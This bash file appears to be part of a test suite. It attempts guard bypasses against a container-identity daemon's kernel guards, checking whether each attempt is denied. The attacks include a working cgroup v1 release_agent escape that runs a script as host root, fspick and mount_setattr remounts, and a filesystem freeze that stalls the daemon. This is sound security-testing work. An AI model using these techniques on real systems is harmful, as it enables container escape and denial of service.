# shellcheck shell=bash
# Attacks on the enforcing-mode guards that the merged mount, usermode
# helper and cgroup guards leave open. Sourced by suite.sh; each runs as
# run_denial's tagged attempt and untagged control.

# cgroup v1 release_agent: a usermode helper the umh guard does not list.
# A named v1 hierarchy (no controller, so the v1 attach guard lets its
# task lists be written), its release_agent pointed at a script, a child
# cgroup with notify_on_release: when its last task leaves, a kworker
# runs the script as untagged root in the host's namespaces.
RA_MNT=/run/contid-atk15-v1
RA_AGENT=/root/contid-atk15-agent
RA_OUT=/root/contid-atk15-agent.out
export RA_MNT RA_AGENT RA_OUT
pre_umh_release_agent() { rm -f "$RA_OUT"; }
atk_umh_release_agent() {
	mkdir -p "$RA_MNT" || return 1
	mountpoint -q "$RA_MNT" || mount -t cgroup -o none,name=contidatk15 contidatk15 "$RA_MNT" || return 1
	printf '#!/bin/sh\n{ echo "agent pid $$ uid $(id -u) argv $*"; cat /proc/self/cgroup; /usr/bin/busctl --auto-start=no call org.contid1 /org/contid1 org.contid1.Manager GetContainerByPID u $$ 2>&1; } >%s\n' "$RA_OUT" >"$RA_AGENT" &&
		chmod 755 "$RA_AGENT" || return 1
	echo "$RA_AGENT" >"$RA_MNT/release_agent" || return 1
	mkdir -p "$RA_MNT/x" && echo 1 >"$RA_MNT/x/notify_on_release" || return 1
	sh -c "echo \$\$ >$RA_MNT/x/cgroup.procs" || return 1
	local i
	for ((i = 0; i < 20; i++)); do
		[[ -s $RA_OUT ]] && break
		sleep 0.5
	done
	[[ -s $RA_OUT ]] || { echo "denied: the agent did not run"; return 1; }
	echo "ok: release_agent ran: $(tr '\n' ' ' <"$RA_OUT")"
}
effect_umh_release_agent() { [[ -s $RA_OUT ]]; }
op_umh_release_agent() { echo usermode_helper; }
post_umh_release_agent() {
	[[ -s $RA_OUT ]] && echo "agent ($1): $(tr '\n' ' ' <"$RA_OUT")" >>"$LOGS/umh_release_agent.$1.log"
	echo >"$RA_MNT/release_agent" 2>/dev/null
	rmdir "$RA_MNT/x" 2>/dev/null
	umount "$RA_MNT" 2>/dev/null
	rm -f "$RA_AGENT"
	return 0
}

# fspick(2) + fsconfig(FSCONFIG_CMD_RECONFIGURE): the new API's remount
# of a superblock, which never calls sb_mount. Read-only for a moment on
# the bpffs; as is on the state directory's filesystem (journald's open
# files would make ro fail with EBUSY there).
atk_fspick_bpffs_ro() { "$PROBE" fspick-reconfigure /sys/fs/bpf ro; }
op_fspick_bpffs_ro() { echo mount; }
atk_fspick_state() { "$PROBE" fspick-reconfigure "$(findmnt -n -o TARGET -T /var/lib/contid | tail -n1)"; }
op_fspick_state() { echo mount; }

# mount_setattr(2): per-mount read-only and propagation with no LSM hook,
# the equivalents of the bind remount and the propagation change that
# sb_mount refuses in the host's namespace.
atk_setattr_bpffs_ro() { "$PROBE" setattr /sys/fs/bpf ro; }
op_setattr_bpffs_ro() { echo mount; }
atk_setattr_sys_shared() { "$PROBE" setattr /sys shared; }
op_setattr_sys_shared() { echo mount; }

# FIFREEZE on the state directory's filesystem: every write to it (the
# registry's, and journald's on the same disk) waits until a thaw.
atk_fsfreeze_state() { "$PROBE" fsfreeze /var/lib/contid; }

# /proc/<contidd>/autogroup: the nice of contidd's autogroup (its session's
# CPU weight when it sits in the root task group). The kernel asks
# task_setnice about the writer, not about contidd.
atk_autogroup_contidd() {
	local f=/proc/$CONTIDD_PID/autogroup n
	[[ -e $f ]] || { echo "denied: no $f"; return 1; }
	n=$(awk '{ print $3 }' "$f")
	echo "$n" >"$f" || return 1
	echo "ok: wrote nice $n to $f ($(cat "$f")); sched_autogroup_enabled=$(cat /proc/sys/kernel/sched_autogroup_enabled); root subtree_control: $(cat /sys/fs/cgroup/cgroup.subtree_control)"
}
op_autogroup_contidd() { echo sched; }

run_atk15() {
	run_denial umh_release_agent
	run_denial fspick_bpffs_ro
	run_denial fspick_state
	run_denial setattr_bpffs_ro
	run_denial setattr_sys_shared
	run_denial autogroup_contidd
	run_denial fsfreeze_state
	run_denial fsfreeze_stall
	run_denial umh_release_agent_opt
}

# The freeze's effect on contidd: while the state filesystem is frozen, a
# new tagged scope is started; does contidd register its container, and
# does it answer the bus? Judged by the freeze alone (run_denial).
atk_fsfreeze_stall() {
	"$PROBE" fsfreeze /var/lib/contid 8 &
	local fz=$! pid t0 i c=""
	sleep 1
	# A service, not a scope: PID 1 forks it, so it inherits no tag and
	# contidd must register the container its cgroup gets.
	local unit=contid-atk15-fz-$ROLE-$$
	systemd-run --quiet --collect --slice=machine.slice --unit="$unit" sleep 30 </dev/null >/dev/null 2>&1
	pid=$(systemctl show -p MainPID --value "$unit")
	t0=$SECONDS
	for ((i = 0; i < 10; i++)); do
		c=$(timeout 2 busctl --auto-start=no call org.contid1 /org/contid1 org.contid1.Manager GetContainerByPID u "$pid" 2>&1)
		[[ $c == o* ]] && break
		sleep 0.5
	done
	echo "during freeze: lookup of new tagged pid $pid after $((SECONDS - t0)) s: ${c:-no answer}"
	wait "$fz"
	local rc=$?
	t0=$SECONDS
	for ((i = 0; i < 20; i++)); do
		c=$(timeout 2 busctl --auto-start=no call org.contid1 /org/contid1 org.contid1.Manager GetContainerByPID u "$pid" 2>&1)
		[[ $c == o* ]] && break
		sleep 0.5
	done
	echo "after thaw: lookup after $((SECONDS - t0)) s: $c"
	systemctl stop "$unit" 2>/dev/null
	return $rc
}

# The same helper set by mount option instead of the file: the v1 mount's
# release_agent= (no open of release_agent at all).
pre_umh_release_agent_opt() { rm -f "$RA_OUT"; }
atk_umh_release_agent_opt() {
	printf '#!/bin/sh\n{ echo "agent pid $$ uid $(id -u) argv $*"; cat /proc/self/cgroup; } >%s\n' "$RA_OUT" >"$RA_AGENT" &&
		chmod 755 "$RA_AGENT" || return 1
	mkdir -p "$RA_MNT" || return 1
	mount -t cgroup -o "none,name=contidatk15o,release_agent=$RA_AGENT" contidatk15o "$RA_MNT" || return 1
	mkdir -p "$RA_MNT/x" && echo 1 >"$RA_MNT/x/notify_on_release" || return 1
	sh -c "echo \$\$ >$RA_MNT/x/cgroup.procs" || return 1
	local i
	for ((i = 0; i < 20; i++)); do
		[[ -s $RA_OUT ]] && break
		sleep 0.5
	done
	[[ -s $RA_OUT ]] || { echo "denied: the agent did not run"; return 1; }
	echo "ok: release_agent (mount option) ran: $(tr '\n' ' ' <"$RA_OUT")"
}
effect_umh_release_agent_opt() { [[ -s $RA_OUT ]]; }
post_umh_release_agent_opt() { post_umh_release_agent "$@"; }
